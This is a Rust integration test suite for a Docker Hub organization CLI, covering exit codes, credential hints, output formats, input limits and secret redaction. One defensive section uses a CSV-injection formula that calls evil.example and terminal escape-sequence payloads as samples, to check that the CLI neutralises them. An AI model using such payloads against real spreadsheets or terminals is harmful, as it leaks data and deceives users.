//! The `dockerhub-org` binary as a user and a script meet it: run as a process against the embedded
//! simulator (`--simulate`) or a wiremock Docker Hub (`--hub-url`), checking exit codes per error
//! kind, the hints for missing connection values, table and CSV output (safe for spreadsheets and
//! terminals), closed pipes, deep outputs and unreadable input.

mod common;

use common::cli::{Run, command, finish};
use std::io::Write as _;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, SystemTime, UNIX_EPOCH};

use common::{Hub, OAT, ORG};
use dockerhub_org_host::simulator::{DEFAULT_OAT, DEFAULT_ORG, Simulator, SimulatorConfig};
use serde_json::{Value, json};
use wiremock::matchers::{method, path};
use wiremock::{Mock, ResponseTemplate};

/// Runs the CLI with `args`.
fn cli(args: &[&str]) -> Run {
    finish(&mut command(args))
}

/// Runs the CLI against `hub` as organization `ORG` with token `OAT`, off the async runtime.
async fn cli_live(hub: &Hub, args: &[&str]) -> Run {
    let mut args: Vec<String> = args.iter().map(|a| a.to_string()).collect();
    args.extend(["--hub-url".into(), hub.url(), "--org".into(), ORG.into()]);
    tokio::task::spawn_blocking(move || {
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        finish(command(&args).env("DOCKERHUB_OAT", OAT))
    })
    .await
    .expect("the CLI thread")
}

/// Asserts the exit code, showing the run when it differs, and that no backtrace or panic leaked.
fn assert_code(run: &Run, code: i32) {
    assert_eq!(run.code, code, "exit code; {run:#?}");
    for leak in ["panicked", "backtrace", "RUST_BACKTRACE", OAT] {
        assert!(!run.stderr.contains(leak) && !run.stdout.contains(leak), "{leak} leaked: {run:#?}");
    }
}

fn unix_now() -> u64 {
    SystemTime::now().duration_since(UNIX_EPOCH).expect("clock").as_secs()
}

/// Mounts `answer` for `GET /v2/orgs/acme/members` after a working token exchange.
async fn members_answer(hub: &Hub, answer: ResponseTemplate) {
    hub.token_exchange("cli", 1).await;
    Mock::given(method("GET"))
        .and(path(format!("/v2/orgs/{ORG}/members")))
        .respond_with(answer)
        .mount(&hub.server)
        .await;
}

// ---- closed pipes ---------------------------------------------------------------------------------

/// Runs the CLI with a standard output whose reading end is already closed: every write fails
/// with a broken pipe, deterministically.
fn with_closed_stdout(args: &[&str]) -> Run {
    let (reader, writer) = std::io::pipe().expect("a pipe");
    drop(reader);
    let output = command(args).stdout(writer).stderr(Stdio::piped()).output().expect("the CLI runs");
    Run {
        code: output.status.code().expect("exited, not killed by a signal"),
        stdout: String::new(),
        stderr: String::from_utf8(output.stderr).expect("stderr is UTF-8"),
    }
}

#[test]
fn a_closed_pipe_ends_every_printing_command_quietly_with_zero() {
    for args in [
        &["actions"][..],
        &["actions", "list-members"],
        &["actions", "--json"],
        &["run", "export-members", "--simulate", "--output", "csv"],
        &["run", "list-members", "--simulate", "--input", r#"{"all_pages": true}"#, "-o", "table"],
        &["run", "get-member", "--simulate", "--input", r#"{"username": "nobody-at-all"}"#, "--json"],
        &["health", "--simulate"],
    ] {
        let run = with_closed_stdout(args);
        assert_code(&run, 0);
        assert_eq!(run.stderr, "", "{args:?} printed on stderr: {run:#?}");
    }
}

#[test]
fn head_reads_the_first_line_of_the_actions_table() {
    let mut child = command(&["actions"]).stdout(Stdio::piped()).spawn().expect("the CLI runs");
    let mut stdout = child.stdout.take().expect("stdout");
    let mut first = [0u8; 4];
    std::io::Read::read_exact(&mut stdout, &mut first).expect("the header's first bytes");
    drop(stdout);
    let status = child.wait().expect("the CLI ends");
    assert_eq!(&first, b"NAME");
    assert_eq!(status.code(), Some(0));
}

// ---- exit codes -----------------------------------------------------------------------------------

#[test]
fn help_documents_every_exit_code() {
    let run = cli(&["--help"]);
    assert_code(&run, 0);
    for line in
        ["  2  usage", "  3  host failure", "  4  the component stopped", " 10  invalid-input", " 19  invalid-response"]
    {
        assert!(run.stdout.contains(line), "{line:?} missing from --help: {}", run.stdout);
    }
}

#[test]
fn invalid_input_exits_10_naming_the_field() {
    let run = cli(&["run", "list-members", "--simulate", "--input", r#"{"page_size": "many"}"#]);
    assert_code(&run, 10);
    assert!(run.stderr.starts_with("invalid-input: "), "{run:#?}");
    assert!(run.stderr.contains("page_size"), "{run:#?}");
}

#[test]
fn not_found_exits_14() {
    let run = cli(&["run", "get-member", "--simulate", "--input", r#"{"username": "nobody-at-all"}"#]);
    assert_code(&run, 14);
    assert!(run.stderr.starts_with("not-found: "), "{run:#?}");
}

#[test]
fn an_action_error_with_json_output_is_one_json_object_on_stdout() {
    let run = cli(&["run", "get-member", "--simulate", "--input", r#"{"username": "nobody-at-all"}"#, "--json"]);
    assert_code(&run, 14);
    let error: Value = serde_json::from_str(run.stdout.trim()).expect("one JSON object");
    assert_eq!(error["error"], "not-found");
    assert!(error["message"].as_str().unwrap().contains("nobody-at-all"), "{error}");
}

#[test]
fn missing_credentials_exit_11_and_say_where_to_give_them() {
    // Neither value: both hints.
    let run = cli(&["run", "list-members", "--hub-url", "http://127.0.0.1:9"]);
    assert_code(&run, 11);
    assert!(run.stderr.starts_with("missing-credential: "), "{run:#?}");
    for needle in ["--org", "DOCKERHUB_ORG", "DOCKERHUB_OAT"] {
        assert!(run.stderr.contains(needle), "{needle} not named: {run:#?}");
    }
    // The organization given (by its environment variable): only the token's hint.
    let run = finish(command(&["run", "list-members", "--hub-url", "http://127.0.0.1:9"]).env("DOCKERHUB_ORG", ORG));
    assert_code(&run, 11);
    assert!(run.stderr.contains("Organization Access Token is required."), "{run:#?}");
    assert!(run.stderr.contains("DOCKERHUB_OAT") && !run.stderr.contains("--org"), "{run:#?}");
    // The token given: only the organization's hint.
    let run = finish(command(&["run", "list-members", "--hub-url", "http://127.0.0.1:9"]).env("DOCKERHUB_OAT", OAT));
    assert_code(&run, 11);
    assert!(run.stderr.contains("Organization Name is required."), "{run:#?}");
    assert!(run.stderr.contains("--org NAME or the DOCKERHUB_ORG") && !run.stderr.contains("set the DOCKERHUB_OAT"));
}

#[tokio::test(flavor = "multi_thread")]
async fn unauthorized_exits_12() {
    let hub = Hub::start().await;
    Mock::given(method("POST"))
        .and(path("/v2/auth/token"))
        .respond_with(
            ResponseTemplate::new(401).set_body_json(json!({"detail": "Incorrect authentication credentials"})),
        )
        .mount(&hub.server)
        .await;
    let run = cli_live(&hub, &["run", "list-members"]).await;
    assert_code(&run, 12);
    assert!(run.stderr.starts_with("unauthorized: "), "{run:#?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn forbidden_exits_13() {
    let hub = Hub::start().await;
    members_answer(&hub, ResponseTemplate::new(403).set_body_json(json!({"detail": "no permission"}))).await;
    let run = cli_live(&hub, &["run", "list-members"]).await;
    assert_code(&run, 13);
    assert!(run.stderr.starts_with("forbidden: "), "{run:#?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn conflict_exits_15() {
    let hub = Hub::start().await;
    members_answer(&hub, ResponseTemplate::new(409).set_body_json(json!({"detail": "conflict"}))).await;
    let run = cli_live(&hub, &["run", "list-members"]).await;
    assert_code(&run, 15);
    assert!(run.stderr.starts_with("conflict: "), "{run:#?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn rate_limited_beyond_the_budget_exits_16() {
    let hub = Hub::start().await;
    let now = unix_now();
    let answer = ResponseTemplate::new(429)
        .insert_header("Date", httpdate::fmt_http_date(UNIX_EPOCH + Duration::from_secs(now)).as_str())
        .insert_header("X-Retry-After", (now + 3600).to_string().as_str())
        .set_body_json(json!({"detail": "too many requests"}));
    members_answer(&hub, answer).await;
    let run = cli_live(&hub, &["run", "list-members"]).await;
    assert_code(&run, 16);
    assert!(run.stderr.starts_with("rate-limited: "), "{run:#?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn upstream_exits_17() {
    let hub = Hub::start().await;
    hub.token_exchange("cli", 1).await;
    // A POST is not repeated after a 5xx, so this fails at once.
    Mock::given(method("POST"))
        .and(path(format!("/v2/orgs/{ORG}/groups")))
        .respond_with(ResponseTemplate::new(500).set_body_string("oops"))
        .expect(1)
        .mount(&hub.server)
        .await;
    let run = cli_live(&hub, &["run", "create-team", "--input", r#"{"team": "qa"}"#]).await;
    assert_code(&run, 17);
    assert!(run.stderr.starts_with("upstream: "), "{run:#?}");
}

#[test]
fn transport_exits_18() {
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let url = format!("http://127.0.0.1:{port}");
    let run = finish(command(&["run", "list-members", "--org", ORG, "--hub-url", &url]).env("DOCKERHUB_OAT", OAT));
    assert_code(&run, 18);
    assert!(run.stderr.starts_with("transport: "), "{run:#?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn invalid_response_exits_19() {
    let hub = Hub::start().await;
    members_answer(&hub, ResponseTemplate::new(200).set_body_string("<html>maintenance</html>")).await;
    let run = cli_live(&hub, &["run", "list-members"]).await;
    assert_code(&run, 19);
    assert!(run.stderr.starts_with("invalid-response: "), "{run:#?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_call_past_its_timeout_exits_20_on_time() {
    let hub = Hub::start_isolated().await;
    members_answer(&hub, ResponseTemplate::new(200).set_delay(Duration::from_secs(30)).set_body_string("{}")).await;
    let started = std::time::Instant::now();
    let run = cli_live(&hub, &["run", "list-members", "--timeout", "1"]).await;
    assert!(started.elapsed() < Duration::from_secs(10), "{:?}", started.elapsed());
    assert_code(&run, 20);
    assert!(run.stderr.starts_with("limit-exceeded: The call reached its deadline of 1 s"), "{run:#?}");
}

#[test]
fn a_timeout_that_is_not_a_number_of_seconds_is_a_usage_error() {
    let run = cli(&["run", "list-members", "--simulate", "--timeout", "0"]);
    assert_code(&run, 2);
    assert!(run.stderr.contains("--timeout"), "{run:#?}");
}

#[test]
fn a_misspelled_action_exits_2_and_suggests_the_nearest() {
    let run = cli(&["run", "list-member", "--simulate"]);
    assert_code(&run, 2);
    assert!(run.stderr.contains(r#"no action named "list-member"; did you mean "list-members"?"#), "{run:#?}");
    let run = cli(&["actions", "get-membr"]);
    assert_code(&run, 2);
    assert!(run.stderr.contains(r#"did you mean "get-member"?"#), "{run:#?}");
}

#[test]
fn a_bad_flag_is_a_usage_error() {
    let run = cli(&["run", "list-members", "--no-such-flag"]);
    assert_code(&run, 2);
}

#[test]
fn a_host_failure_exits_3() {
    let busy = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = busy.local_addr().unwrap().port().to_string();
    let run = cli(&["serve-simulator", "--port", &port]);
    assert_code(&run, 3);
    assert!(run.stderr.starts_with("error: "), "{run:#?}");
}

// ---- input ----------------------------------------------------------------------------------------

#[test]
fn a_missing_input_file_is_invalid_input_naming_it() {
    let run = cli(&["run", "list-members", "--simulate", "--input", "@/nonexistent/query.json"]);
    assert_code(&run, 10);
    assert!(run.stderr.contains("@/nonexistent/query.json") && run.stderr.contains("cannot read"), "{run:#?}");
}

#[test]
fn input_that_is_not_utf8_is_invalid_input() {
    let file = std::env::temp_dir().join(format!("dockerhub-org-cli-{}.json", std::process::id()));
    std::fs::write(&file, b"{\"search\": \"\xff\xfe\"}").unwrap();
    let arg = format!("@{}", file.display());
    let run = cli(&["run", "list-members", "--simulate", "--input", &arg]);
    std::fs::remove_file(&file).ok();
    assert_code(&run, 10);
    assert!(run.stderr.contains("not UTF-8"), "{run:#?}");

    let mut child = command(&["run", "list-members", "--simulate", "--input", "@-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(b"\xc3\x28").unwrap();
    let output = child.wait_with_output().unwrap();
    assert_eq!(output.status.code(), Some(10));
    assert!(String::from_utf8_lossy(&output.stderr).contains("@- (standard input): not UTF-8"), "{output:?}");
}

#[test]
fn input_from_standard_input_is_read() {
    let mut child = command(&["run", "list-members", "--simulate", "--input", "@-", "--json"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(br#"{"page_size": 2}"#).unwrap();
    let output = child.wait_with_output().unwrap();
    assert_eq!(output.status.code(), Some(0));
    let value: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(value["members"].as_array().unwrap().len(), 2);
}

// ---- output formats -------------------------------------------------------------------------------

#[test]
fn json_output_is_the_actions_text_on_one_line() {
    let run = cli(&["run", "list-members", "--simulate", "--input", r#"{"page_size": 3}"#, "--output", "json"]);
    assert_code(&run, 0);
    assert_eq!(run.stdout.lines().count(), 1, "{}", run.stdout);
    let value: Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(value["members"].as_array().unwrap().len(), 3);
}

#[test]
fn without_a_terminal_the_default_is_indented_json() {
    let run = cli(&["run", "list-members", "--simulate", "--input", r#"{"page_size": 3}"#]);
    assert_code(&run, 0);
    assert!(run.stdout.lines().count() > 3, "indented: {}", run.stdout);
    let value: Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(value["members"].as_array().unwrap().len(), 3);
}

#[test]
fn a_listing_as_a_table_has_a_header_and_one_line_per_member() {
    let json = cli(&["run", "list-members", "--simulate", "--input", r#"{"page_size": 7}"#, "--json"]);
    let members: Value = serde_json::from_str(&json.stdout).unwrap();
    let members = members["members"].as_array().unwrap();
    let run = cli(&["run", "list-members", "--simulate", "--input", r#"{"page_size": 7}"#, "-o", "table"]);
    assert_code(&run, 0);
    let lines: Vec<&str> = run.stdout.lines().collect();
    assert_eq!(lines.len(), 1 + members.len(), "{}", run.stdout);
    let header: Vec<&str> = lines[0].split_whitespace().collect();
    assert_eq!(&header[..3], ["USERNAME", "FULL_NAME", "EMAIL"], "{}", lines[0]);
    assert!(header.contains(&"ROLE") && header.contains(&"GROUPS"), "{}", lines[0]);
    for (line, member) in lines[1..].iter().zip(members) {
        assert!(line.starts_with(member["username"].as_str().unwrap()), "{line} / {member}");
        assert!(line.contains(member["email"].as_str().unwrap()), "{line} / {member}");
    }
}

#[test]
fn export_members_as_csv_has_every_member_of_the_json_output() {
    let json = cli(&["run", "export-members", "--simulate", "--json"]);
    assert_code(&json, 0);
    let export: Value = serde_json::from_str(&json.stdout).unwrap();
    let members = export["members"].as_array().unwrap();
    assert!(members.len() > 300, "the seeded roster: {}", members.len());

    let run = cli(&["run", "export-members", "--simulate", "--output", "csv"]);
    assert_code(&run, 0);
    let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(header, ["name", "username", "email", "type", "permission", "teams", "date_joined"]);
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(rows.len(), members.len());
    for (row, member) in rows.iter().zip(members) {
        // An invitee known only by email has no username (null: an empty cell); Docker may hide
        // an email (null too).
        assert_eq!(&row[1], member["username"].as_str().unwrap_or_default());
        assert_eq!(&row[2], member["email"].as_str().unwrap_or_default());
        let teams = match &member["teams"] {
            Value::Array(teams) => teams.iter().map(|t| t.as_str().unwrap()).collect::<Vec<_>>().join(", "),
            other => other.as_str().unwrap_or_default().to_string(),
        };
        assert_eq!(row[5], teams);
    }
}

#[test]
fn an_output_without_a_list_is_one_record_in_csv() {
    let run = cli(&["run", "get-team", "--simulate", "--input", r#"{"team": "platform"}"#, "-o", "csv"]);
    assert_code(&run, 0);
    let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    // The team object's fields flattened (`team.name`); `meta` left out.
    assert_eq!(header[..2], ["organization", "resolved_by"], "{}", run.stdout);
    assert!(header.contains(&"team.name".to_string()) && !header.iter().any(|h| h.starts_with("meta")), "{header:?}");
    assert_eq!(reader.records().count(), 1);
}

#[test]
fn actions_prints_a_header_then_every_action_of_the_manifest() {
    let manifest = cli(&["actions", "--json"]);
    assert_code(&manifest, 0);
    let manifest: Value = serde_json::from_str(&manifest.stdout).expect("the whole manifest");
    let names: Vec<&str> =
        manifest["actions"].as_array().unwrap().iter().map(|a| a["name"].as_str().unwrap()).collect();
    assert!(names.len() > 20);

    let run = cli(&["actions"]);
    assert_code(&run, 0);
    let lines: Vec<&str> = run.stdout.lines().collect();
    assert_eq!(lines[0].split_whitespace().collect::<Vec<_>>(), ["NAME", "KIND", "TITLE"]);
    let listed: Vec<&str> = lines[1..].iter().map(|l| l.split_whitespace().next().unwrap()).collect();
    assert_eq!(listed, names);
    assert!(lines.iter().any(|l| l.starts_with("list-members") && l.contains("read-only")), "{}", run.stdout);
}

#[test]
fn one_action_shows_its_schemas_and_a_runnable_example() {
    let run = cli(&["actions", "list-members"]);
    assert_code(&run, 0);
    assert!(run.stdout.starts_with("list-members: List organization members\nread-only"), "{}", run.stdout);
    assert!(run.stdout.contains("Input schema:\n{"), "{}", run.stdout);
    assert!(run.stdout.contains("\nOutput"), "{}", run.stdout);
    let example = run.stdout.lines().find(|l| l.contains("dockerhub-org run list-members")).expect("an example");
    assert!(example.contains(r#"--input '{"page_size":5}'"#), "{example}");
}

// ---- outputs of any depth -------------------------------------------------------------------------

/// A JSON object nested `depth` levels deep.
fn nested(depth: usize) -> String {
    format!("{}1{}", r#"{"a":"#.repeat(depth), "}".repeat(depth))
}

#[tokio::test(flavor = "multi_thread")]
async fn an_output_deeper_than_serde_jsons_limit_reaches_the_user_unchanged() {
    let hub = Hub::start().await;
    hub.token_exchange("cli", 2).await;
    let body = nested(127);
    Mock::given(method("GET"))
        .and(path(format!("/v2/orgs/{ORG}/groups")))
        .respond_with(ResponseTemplate::new(200).set_body_raw(body.clone(), "application/json"))
        .mount(&hub.server)
        .await;
    let input = json!({"method": "GET", "path": format!("/v2/orgs/{ORG}/groups")}).to_string();
    for format in [&["--json"][..], &[]] {
        let mut args = vec!["run", "api-request", "--input", input.as_str()];
        args.extend(format);
        let run = cli_live(&hub, &args).await;
        assert_code(&run, 0);
        // Indented or not, the body is all there (it has no spaces of its own).
        let printed: String = run.stdout.split_whitespace().collect();
        assert!(printed.contains(&body), "the body, whole ({format:?}): {}", &run.stdout[..200]);
    }
}

// ---- output that cannot attack its reader ----------------------------------------------------------

/// The formula a Docker Hub user can put in their own full name (CSV injection).
const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#;

/// A simulator whose first member's full name is `full_name` (Docker Hub users choose their own).
fn simulator_with_name(full_name: &str) -> Simulator {
    let simulator = Simulator::start(SimulatorConfig::default()).expect("the simulator starts");
    simulator.with_state(|state| state.members[0].full_name = full_name.to_string());
    simulator
}

/// Runs the CLI against `simulator` as a live organization (its URL as --hub-url).
fn cli_on(simulator: &Simulator, args: &[&str]) -> Run {
    let mut args = args.to_vec();
    args.extend(["--org", DEFAULT_ORG, "--hub-url", simulator.url()]);
    let run = finish(command(&args).env("DOCKERHUB_OAT", DEFAULT_OAT));
    assert!(!run.stdout.contains(DEFAULT_OAT) && !run.stderr.contains(DEFAULT_OAT), "the token leaked: {run:#?}");
    run
}

#[test]
fn a_formula_in_a_members_name_is_exported_to_csv_as_text() {
    let simulator = simulator_with_name(FORMULA);
    // The JSON output carries the name unchanged: programs get the data as it is.
    let json = cli_on(&simulator, &["run", "export-members", "--json"]);
    assert_code(&json, 0);
    let export: Value = serde_json::from_str(&json.stdout).unwrap();
    assert_eq!(export["members"][0]["name"], FORMULA, "{}", json.stdout);

    let run = cli_on(&simulator, &["run", "export-members", "-o", "csv"]);
    assert_code(&run, 0);
    // The cell is quoted (it holds quotes) and starts with ' inside the quotes.
    let escaped = r#""'=HYPERLINK(""http://evil.example/?""&A1,""click"")""#;
    assert!(run.stdout.lines().nth(1).unwrap().starts_with(&format!("{escaped},")), "{}", run.stdout);
    let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
    assert_eq!(&rows[0][0], format!("'{FORMULA}"));
    for row in &rows {
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a formula cell: {cell:?}");
        }
    }
}

#[test]
fn control_characters_in_a_name_reach_neither_csv_nor_a_table() {
    let simulator = simulator_with_name("Ada\u{1b}]0;pwned\u{7} \u{1b}[2JLove\rlace\u{202e}\tx");
    for format in ["csv", "table"] {
        let run = cli_on(&simulator, &["run", "list-members", "--input", r#"{"page_size": 2}"#, "-o", format]);
        assert_code(&run, 0);
        assert!(!run.stdout.chars().any(|c| c.is_control() && c != '\n'), "{format}: {:?}", run.stdout);
        assert!(!run.stdout.contains("pwned") && !run.stdout.contains('\u{202e}'), "{format}: {:?}", run.stdout);
        assert!(run.stdout.contains("Ada Love lace x"), "{format}: {:?}", run.stdout);
        assert_eq!(run.stdout.lines().count(), 3, "{format}: a header and two members: {:?}", run.stdout);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn escape_sequences_in_dockers_error_text_never_reach_standard_error() {
    let hub = Hub::start().await;
    let detail = "\u{1b}]0;pwned\u{7}no permission\u{1b}[2J\nhint: run this to fix it\u{9b}31m";
    members_answer(&hub, ResponseTemplate::new(403).set_body_json(json!({"detail": detail}))).await;
    let run = cli_live(&hub, &["run", "list-members"]).await;
    assert_code(&run, 13);
    assert!(run.stderr.starts_with("forbidden: "), "{run:#?}");
    assert!(run.stderr.contains("no permission"), "Docker's words are still shown: {run:#?}");
    assert!(!run.stderr.chars().any(|c| c.is_control() && c != '\n'), "{:?}", run.stderr);
    assert!(!run.stderr.contains("pwned") && !run.stderr.contains("[2J"), "{:?}", run.stderr);
    // Docker's line break does not start a line of its own that looks like the CLI's hint.
    assert!(!run.stderr.lines().any(|line| line.starts_with("hint: run this")), "{:?}", run.stderr);
}

// ---- bounded input, credentials in URLs -----------------------------------------------------------

#[test]
fn input_from_an_endless_device_stops_at_the_input_limit() {
    let started = std::time::Instant::now();
    let run = cli(&["run", "list-members", "--simulate", "--input", "@/dev/zero"]);
    assert_code(&run, 10);
    assert!(run.stderr.contains("@/dev/zero: more than 1048576 bytes"), "{run:#?}");
    assert!(started.elapsed() < Duration::from_secs(20), "read past the limit: {:?}", started.elapsed());

    let file = std::env::temp_dir().join(format!("dockerhub-org-cli-big-{}.json", std::process::id()));
    std::fs::write(&file, format!("{{\"search\": \"{}\"}}", "a".repeat(1024 * 1024))).unwrap();
    let run = cli(&["run", "list-members", "--simulate", "--input", &format!("@{}", file.display())]);
    std::fs::remove_file(&file).ok();
    assert_code(&run, 10);
    assert!(run.stderr.contains("more than 1048576 bytes"), "{run:#?}");
}

#[test]
fn input_from_a_fifo_nobody_writes_to_ends_within_the_timeout() {
    let fifo = Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("cli-input-{}.fifo", std::process::id()));
    let _ = std::fs::remove_file(&fifo);
    let made = Command::new("mkfifo").arg(&fifo).status().expect("mkfifo runs");
    assert!(made.success());
    let started = std::time::Instant::now();
    let arg = format!("@{}", fifo.display());
    let run = cli(&["run", "list-members", "--simulate", "--timeout", "2", "--input", &arg]);
    let took = started.elapsed();
    std::fs::remove_file(&fifo).ok();
    assert_code(&run, 10);
    assert!(run.stderr.contains("nothing to read within the 2 s timeout"), "{run:#?}");
    assert!(took < Duration::from_secs(15), "blocked past the timeout: {took:?}");

    // A FIFO that is written to is read (process substitution, `@<(jq ...)`, is one).
    let made = Command::new("mkfifo").arg(&fifo).status().expect("mkfifo runs");
    assert!(made.success());
    let writer = {
        let fifo = fifo.clone();
        std::thread::spawn(move || std::fs::write(fifo, br#"{"page_size": 2}"#).unwrap())
    };
    let run = cli(&["run", "list-members", "--simulate", "--json", "--input", &arg]);
    // A CLI that never opened the FIFO leaves the writer waiting for a reader: be that reader.
    let waited = std::time::Instant::now();
    while !writer.is_finished() && waited.elapsed() < Duration::from_secs(2) {
        std::thread::sleep(Duration::from_millis(20));
    }
    if !writer.is_finished() {
        drop(std::fs::File::open(&fifo));
    }
    writer.join().unwrap();
    std::fs::remove_file(&fifo).ok();
    assert_code(&run, 0);
    let value: Value = serde_json::from_str(&run.stdout).unwrap();
    assert_eq!(value["members"].as_array().unwrap().len(), 2);
}

#[test]
fn credentials_in_the_hub_url_are_refused_and_never_echoed() {
    for url in ["https://ada:s3cret-pw@127.0.0.1:9", "http://s3cret-pw@127.0.0.1:9", "https://ada:s3cret-pw/x@"] {
        let run = finish(command(&["run", "list-members", "--org", ORG, "--hub-url", url]).env("DOCKERHUB_OAT", OAT));
        assert_code(&run, 2);
        assert!(!run.stderr.contains("s3cret-pw") && !run.stdout.contains("s3cret-pw"), "{url}: {run:#?}");
        assert!(run.stderr.contains("credentials in the URL"), "{url}: {run:#?}");
        // From the environment too, and for the MCP server.
        let run = finish(command(&["mcp", "--org", ORG]).env("DOCKERHUB_HUB_URL", url).env("DOCKERHUB_OAT", OAT));
        assert_ne!(run.code, 0, "{url}: {run:#?}");
        assert!(!run.stderr.contains("s3cret-pw") && !run.stdout.contains("s3cret-pw"), "{url}: {run:#?}");
    }
}
